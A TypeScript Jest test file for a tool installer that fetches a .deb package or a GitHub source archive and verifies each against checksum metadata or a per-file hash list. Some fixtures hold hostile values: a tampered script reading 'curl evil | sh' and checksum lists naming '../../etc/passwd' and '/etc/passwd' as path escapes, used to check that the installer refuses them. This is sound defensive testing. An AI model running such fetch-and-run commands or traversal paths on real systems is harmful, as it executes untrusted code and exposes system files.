/**
 * The installer for tools that are not GitHub release binaries: a Debian package on a vendor download
 * site verified by its omnibus `.metadata.json` (cinc-auditor), and a tag's source archive verified file
 * by file against the release's list (docker-bench). Served from a loopback stand-in through `mirror`.
 */
import { describe, it, expect, beforeEach, afterEach } from '@jest/globals'
import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { metadataDigest, parseFileList } from '../../src/tools/checksum-documents.js'
import { DebArchiveError, dataMember, extractDeb, listArMembers } from '../../src/tools/deb-archive.js'
import { describeInstallPlan, installTool, type InstallOptions } from '../../src/tools/install.js'
import { mirroredUrl } from '../../src/tools/release-urls.js'
import type { ToolSpec } from '../../src/tools/tool-spec.js'
import { ConfigurationError, ScannerError } from '../../src/util/errors.js'
import { RecordingLogger } from '../helpers/recording-logger.js'
import {
  fakeExecutable,
  makeTarGz,
  sha256Hex,
  startReleaseServer,
  type ReleaseServer,
} from '../helpers/release-server.js'

const run = promisify(execFile)

/** An `ar` archive (the container of a .deb), members padded to even offsets. */
function makeAr(members: { name: string; data: Buffer | string }[]): Buffer {
  const parts: Buffer[] = [Buffer.from('!<arch>\n', 'latin1')]
  for (const member of members) {
    const data = Buffer.from(member.data)
    const header =
      `${member.name}/`.padEnd(16) +
      '0'.padEnd(12) +
      '0'.padEnd(6) +
      '0'.padEnd(6) +
      '100644'.padEnd(8) +
      String(data.length).padEnd(10) +
      '`\n'
    parts.push(Buffer.from(header, 'latin1'), data)
    if (data.length % 2 === 1) parts.push(Buffer.from('\n'))
  }
  return Buffer.concat(parts)
}

async function makeDeb(
  files: { name: string; content: string }[],
  options: { dataName?: string } = {},
): Promise<Buffer> {
  const control = await makeTarGz([
    { name: './control', content: 'Package: fakedeb\nVersion: 1.2.3-1\n', mode: 0o644 },
  ])
  const data = await makeTarGz(files.map((f) => ({ name: `./${f.name}`, content: f.content })))
  return makeAr([
    { name: 'debian-binary', data: '2.0\n' },
    { name: 'control.tar.gz', data: control },
    { name: options.dataName ?? 'data.tar.gz', data },
  ])
}

const DEB_HOST = 'downloads.example.org'

function debSpec(): ToolSpec {
  return {
    name: 'fakedeb',
    repository: 'acme/fakedeb',
    tag: (v) => `v${v}`,
    asset: (v, platform) =>
      platform === 'linux-x64'
        ? { name: `fakedeb_${v}-1_amd64.deb`, format: 'deb', executable: 'opt/fakedeb/bin/fakedeb' }
        : undefined,
    downloadUrl: (v, asset) => `https://${DEB_HOST}/files/stable/fakedeb/${v}/${asset.name}`,
    checksums: () => ({ kind: 'metadata-json', suffix: '.metadata.json' }),
    latestUnsupported: 'no GitHub releases',
  }
}

const SRC_REPO = 'acme/benchy'

function sourceSpec(): ToolSpec {
  return {
    name: 'benchy',
    repository: SRC_REPO,
    tag: (v) => `v${v}`,
    asset: (v) => ({ name: `benchy-${v}.tar.gz`, format: 'tar.gz', executable: `benchy-${v}/benchy.sh` }),
    downloadUrl: (v) => `https://github.com/${SRC_REPO}/archive/refs/tags/v${v}.tar.gz`,
    checksums: (v) => ({
      kind: 'file-list',
      name: 'benchy.sha256',
      root: `benchy-${v}`,
      mustBeListed: /^(?:[^/]+\.sh|functions\/.+)$/,
    }),
  }
}

const SOURCE_FILES: Record<string, string> = {
  'benchy.sh': fakeExecutable('benchy 1.2.3'),
  'functions/lib.sh': 'helper() { :; }\n',
  Dockerfile: 'FROM alpine\n',
}

async function sourceArchive(files: Record<string, string>): Promise<Buffer> {
  return makeTarGz([
    ...Object.entries(files).map(([name, content]) => ({ name: `benchy-1.2.3/${name}`, content })),
    { name: 'benchy-1.2.3/README.md', content: 'not listed, not run', mode: 0o644 },
  ])
}

function fileList(files: Record<string, string>): string {
  return Object.entries(files)
    .map(([name, content]) => `${sha256Hex(content)}  ${name}\n`)
    .join('')
}

describe('installTool for non-release sources', () => {
  let server: ReleaseServer
  let root: string
  let cacheRoot: string
  let tempDir: string
  let logger: RecordingLogger
  const saved = process.env['RUNNER_TOOL_CACHE']

  beforeEach(async () => {
    server = await startReleaseServer()
    root = await mkdtemp(join(tmpdir(), 'csg-install-src-'))
    cacheRoot = join(root, 'tool-cache')
    tempDir = join(root, 'temp')
    process.env['RUNNER_TOOL_CACHE'] = cacheRoot
    logger = new RecordingLogger()
  })

  afterEach(async () => {
    await server.close()
    await rm(root, { recursive: true, force: true })
    if (saved === undefined) delete process.env['RUNNER_TOOL_CACHE']
    else process.env['RUNNER_TOOL_CACHE'] = saved
  })

  const options = (overrides: Partial<InstallOptions> = {}): InstallOptions => ({
    version: '1.2.3',
    platform: 'linux-x64',
    mirror: server.url,
    apiBaseUrl: server.url,
    tempDir,
    logger,
    retries: 0,
    retryDelayMs: 5,
    timeoutMs: 2000,
    knownSha256: () => undefined,
    ...overrides,
  })

  async function failure(promise: Promise<unknown>): Promise<Error> {
    const error = await promise.then(
      () => undefined,
      (e: unknown) => e,
    )
    expect(error).toBeInstanceOf(Error)
    return error as Error
  }

  async function expectNothingInstalled(tool: string): Promise<void> {
    expect(existsSync(join(cacheRoot, tool))).toBe(false)
    expect(existsSync(tempDir) ? await readdir(tempDir) : []).toEqual([])
  }

  const debPath = `/${DEB_HOST}/files/stable/fakedeb/1.2.3/fakedeb_1.2.3-1_amd64.deb`

  async function publishDeb(
    options: { metadata?: Record<string, unknown>; body?: Buffer } = {},
  ): Promise<Buffer> {
    const body =
      options.body ??
      (await makeDeb([{ name: 'opt/fakedeb/bin/fakedeb', content: fakeExecutable('fakedeb 1.2.3') }]))
    server.setFile(debPath, body)
    server.setFile(
      `${debPath}.metadata.json`,
      JSON.stringify(
        options.metadata ?? {
          basename: 'fakedeb_1.2.3-1_amd64.deb',
          sha256: sha256Hex(body),
          version: '1.2.3',
        },
      ),
    )
    return body
  }

  it('installs a .deb from a vendor host through the mirror, verified by its metadata.json', async () => {
    await publishDeb()
    const installed = await installTool(debSpec(), options())
    expect(installed.path).toBe(join(cacheRoot, 'fakedeb', '1.2.3', 'x64', 'opt/fakedeb/bin/fakedeb'))
    expect((await run(installed.path)).stdout.trim()).toBe('fakedeb 1.2.3')
    expect(server.requestsTo(debPath).map((r) => r.path)).toEqual([debPath, `${debPath}.metadata.json`])
    expect(existsSync(join(cacheRoot, 'fakedeb', '1.2.3', 'x64', 'control'))).toBe(false) // only data.tar
    expect(await readdir(tempDir)).toEqual([])
  })

  it('uses a pinned digest instead of the metadata when the action pins one', async () => {
    const body = await publishDeb({ metadata: { sha256: 'bad' } })
    await installTool(debSpec(), options({ knownSha256: () => sha256Hex(body) }))
    expect(server.requestsTo('.metadata.json')).toEqual([])
  })

  it.each<[string, Record<string, unknown>, RegExp]>([
    [
      'another package',
      { basename: 'other_1.0_amd64.deb', sha256: 'a'.repeat(64) },
      /describes "other_1\.0_amd64\.deb"/,
    ],
    ['no sha256', { basename: 'fakedeb_1.2.3-1_amd64.deb' }, /no valid "sha256"/],
  ])('refuses metadata describing %s', async (_name, metadata, message) => {
    await publishDeb({ metadata })
    const error = await failure(installTool(debSpec(), options()))
    expect(error).toBeInstanceOf(ScannerError)
    expect(error.message).toMatch(message)
    await expectNothingInstalled('fakedeb')
  })

  it('refuses a .deb whose digest differs from its metadata', async () => {
    await publishDeb({ metadata: { basename: 'fakedeb_1.2.3-1_amd64.deb', sha256: 'b'.repeat(64) } })
    expect((await failure(installTool(debSpec(), options()))).message).toMatch(/checksum mismatch/)
    await expectNothingInstalled('fakedeb')
  })

  it('reports a package without data.tar as corrupt and caches nothing', async () => {
    const body = makeAr([{ name: 'debian-binary', data: '2.0\n' }])
    await publishDeb({ body })
    expect((await failure(installTool(debSpec(), options()))).message).toMatch(
      /could not extract[\s\S]*no data\.tar member/,
    )
    await expectNothingInstalled('fakedeb')
  })

  it('refuses "latest" for a tool without GitHub releases before any request', async () => {
    const error = await failure(installTool(debSpec(), options({ version: 'latest' })))
    expect(error).toBeInstanceOf(ConfigurationError)
    expect(error.message).toMatch(/no GitHub releases; pin a version/)
    expect(server.requests).toEqual([])
  })

  const archivePath = `/${SRC_REPO}/archive/refs/tags/v1.2.3.tar.gz`

  async function publishSource(
    options: { archiveFiles?: Record<string, string>; listed?: Record<string, string> } = {},
  ) {
    server.setFile(archivePath, await sourceArchive(options.archiveFiles ?? SOURCE_FILES))
    server.addAsset(SRC_REPO, 'v1.2.3', 'benchy.sha256', fileList(options.listed ?? SOURCE_FILES))
  }

  it('installs a source archive whose every file matches the release list', async () => {
    await publishSource()
    const installed = await installTool(sourceSpec(), options())
    expect(installed.path).toBe(join(cacheRoot, 'benchy', '1.2.3', 'x64', 'benchy-1.2.3/benchy.sh'))
    expect((await run(installed.path)).stdout.trim()).toBe('benchy 1.2.3')
    expect(server.requestsTo('/archive/refs/tags/')).toHaveLength(1)
    expect(logger.messages('info').join('\n')).toMatch(/every file of benchy-1\.2\.3\.tar\.gz matches/)
  })

  it.each<[string, Record<string, string>, Record<string, string>, RegExp]>([
    [
      'a modified script',
      { ...SOURCE_FILES, 'functions/lib.sh': 'curl evil | sh\n' },
      SOURCE_FILES,
      /functions\/lib\.sh: expected/,
    ],
    [
      'an unlisted script',
      { ...SOURCE_FILES, 'extra.sh': 'echo hi\n' },
      SOURCE_FILES,
      /extra\.sh is not listed/,
    ],
    [
      'a missing script',
      { 'benchy.sh': SOURCE_FILES['benchy.sh']!, Dockerfile: 'FROM alpine\n' },
      SOURCE_FILES,
      /functions\/lib\.sh is listed but missing/,
    ],
  ])('refuses an archive with %s and caches nothing', async (_name, archiveFiles, listed, message) => {
    await publishSource({ archiveFiles, listed })
    const error = await failure(installTool(sourceSpec(), options()))
    expect(error).toBeInstanceOf(ScannerError)
    expect(error.message).toMatch(/do not match[\s\S]*benchy\.sha256/)
    expect(error.message).toMatch(message)
    await expectNothingInstalled('benchy')
  })

  it('tolerates a listed non-script file that the archive leaves out (export-ignore)', async () => {
    const archiveFiles = {
      'benchy.sh': SOURCE_FILES['benchy.sh']!,
      'functions/lib.sh': SOURCE_FILES['functions/lib.sh']!,
    }
    await publishSource({ archiveFiles })
    await installTool(sourceSpec(), options())
  })

  it('refuses a list naming a path outside the archive', async () => {
    server.setFile(archivePath, await sourceArchive(SOURCE_FILES))
    server.addAsset(
      SRC_REPO,
      'v1.2.3',
      'benchy.sha256',
      `${'a'.repeat(64)}  ../../etc/passwd\n${fileList(SOURCE_FILES)}`,
    )
    expect((await failure(installTool(sourceSpec(), options()))).message).toMatch(
      /cannot verify[\s\S]*leaves the archive/,
    )
    await expectNothingInstalled('benchy')
  })

  it('describes the plan with the mirrored vendor URL and its metadata', () => {
    expect(
      describeInstallPlan(debSpec(), {
        version: '1.2.3',
        platform: 'linux-x64',
        mirror: 'https://m.example/x',
        knownSha256: () => undefined,
      }),
    ).toEqual({
      tool: 'fakedeb',
      version: '1.2.3',
      resolved: true,
      tag: 'v1.2.3',
      url: `https://m.example/x/${DEB_HOST}/files/stable/fakedeb/1.2.3/fakedeb_1.2.3-1_amd64.deb`,
      checksumSource: `https://m.example/x/${DEB_HOST}/files/stable/fakedeb/1.2.3/fakedeb_1.2.3-1_amd64.deb.metadata.json`,
    })
    expect(
      describeInstallPlan(sourceSpec(), {
        version: '1.2.3',
        platform: 'linux-x64',
        knownSha256: () => undefined,
      }),
    ).toMatchObject({
      url: `https://github.com/${SRC_REPO}/archive/refs/tags/v1.2.3.tar.gz`,
      checksumSource: `https://github.com/${SRC_REPO}/releases/download/v1.2.3/benchy.sha256`,
    })
  })
})

describe('mirroredUrl', () => {
  it.each<[string, string, string]>([
    [
      'https://github.com/a/b/archive/refs/tags/v1.tar.gz',
      'https://github.com',
      'https://github.com/a/b/archive/refs/tags/v1.tar.gz',
    ],
    [
      'https://github.com/a/b/archive/refs/tags/v1.tar.gz',
      'https://m.example/gh',
      'https://m.example/gh/a/b/archive/refs/tags/v1.tar.gz',
    ],
    ['https://downloads.cinc.sh/files/x.deb', 'https://github.com', 'https://downloads.cinc.sh/files/x.deb'],
    [
      'https://downloads.cinc.sh/files/x.deb',
      'https://m.example/gh',
      'https://m.example/gh/downloads.cinc.sh/files/x.deb',
    ],
  ])('%s through %s → %s', (url, base, expected) => {
    expect(mirroredUrl(url, base)).toBe(expected)
  })
})

describe('deb archives', () => {
  const created: string[] = []
  const scratch = async (): Promise<string> => {
    const dir = await mkdtemp(join(tmpdir(), 'csg-deb-'))
    created.push(dir)
    return dir
  }
  afterEach(async () => {
    await Promise.all(created.splice(0).map((dir) => rm(dir, { recursive: true, force: true })))
  })

  it('lists ar members across odd-sized padding and finds the data member', async () => {
    const dir = await scratch()
    const file = join(dir, 'x.deb')
    await writeFile(
      file,
      makeAr([
        { name: 'debian-binary', data: '2.0\n' },
        { name: 'odd', data: 'abc' },
        { name: 'data.tar.xz', data: 'zz' },
      ]),
    )
    const members = await listArMembers(file)
    expect(members.map((m) => [m.name, m.size])).toEqual([
      ['debian-binary', 4],
      ['odd', 3],
      ['data.tar.xz', 2],
    ])
    expect(dataMember(members).name).toBe('data.tar.xz')
    expect((await readFile(file)).subarray(members[2]!.offset, members[2]!.offset + 2).toString()).toBe('zz')
  })

  it.each<[string, Buffer, RegExp]>([
    ['not ar', Buffer.from('PK\u0003\u0004'), /not an ar archive/],
    ['a truncated member', makeAr([{ name: 'debian-binary', data: '2.0\n' }]).subarray(0, 70), /truncated/],
  ])('refuses %s', async (_name, bytes, message) => {
    const dir = await scratch()
    await writeFile(join(dir, 'x.deb'), bytes)
    await expect(listArMembers(join(dir, 'x.deb'))).rejects.toThrow(DebArchiveError)
    await expect(listArMembers(join(dir, 'x.deb'))).rejects.toThrow(message)
  })

  it('extracts only the files of data.tar and removes its scratch copy', async () => {
    const dir = await scratch()
    await writeFile(join(dir, 'x.deb'), await makeDeb([{ name: 'opt/t/bin/t', content: 'x' }]))
    const dest = join(dir, 'out')
    await (await import('node:fs/promises')).mkdir(dest)
    await extractDeb(join(dir, 'x.deb'), dest, { scratchDir: dir })
    expect(await readFile(join(dest, 'opt/t/bin/t'), 'utf8')).toBe('x')
    expect((await readdir(dir)).sort()).toEqual(['out', 'x.deb'])
  })
})

describe('checksum documents', () => {
  it.each<[string, ReturnType<typeof metadataDigest>]>([
    [JSON.stringify({ basename: 'a.deb', sha256: 'A'.repeat(64) }), { found: true, sha256: 'a'.repeat(64) }],
    [JSON.stringify({ sha256: 'b'.repeat(64) }), { found: true, sha256: 'b'.repeat(64) }],
    ['not json', { found: false, detail: 'the metadata is not valid JSON' }],
    ['[]', { found: false, detail: 'the metadata is not a JSON object' }],
  ])('metadataDigest(%s)', (text, expected) => {
    expect(metadataDigest(text, 'a.deb')).toEqual(expected)
  })

  it('parses a file list, normalising ./ and refusing escapes and conflicts', () => {
    const a = 'a'.repeat(64)
    const b = 'b'.repeat(64)
    expect(parseFileList(`${a}  ./x.sh\n${a}  tests/1.sh\n`)).toEqual({
      files: [
        { path: 'x.sh', sha256: a },
        { path: 'tests/1.sh', sha256: a },
      ],
      problems: [],
    })
    expect(parseFileList(`${a}  /etc/passwd\n${a}  x\n${b}  x\nnonsense\n`).problems).toEqual([
      'line 4 is not a "<sha256>  <path>" line',
      'the path "/etc/passwd" leaves the archive',
      'x is listed with two digests',
    ])
  })
})
